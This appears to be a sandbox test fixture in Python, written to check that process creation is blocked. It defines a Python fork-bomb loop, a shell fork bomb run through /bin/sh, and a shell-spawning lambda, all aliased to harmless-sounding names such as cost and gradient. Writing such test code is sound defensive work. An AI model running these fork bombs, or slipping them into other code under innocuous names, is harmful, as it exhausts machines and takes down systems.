# tries: to fill the machine with processes.
# gets: an error at the first one.
# ends: error
import os
import subprocess


def bomb(*args):
    while True:
        os.fork()
        print("HARM: a process was made")


def shell(*args):
    subprocess.run(["/bin/sh", "-c", ":(){ :|:& };:"], check=True)
    print("HARM: a shell ran")


fc_c = bc_c = cost = bomb
fc_v = bc_v = gradient = shell
bp_online = lambda *args: os.posix_spawn("/bin/sh", ["sh"], {})
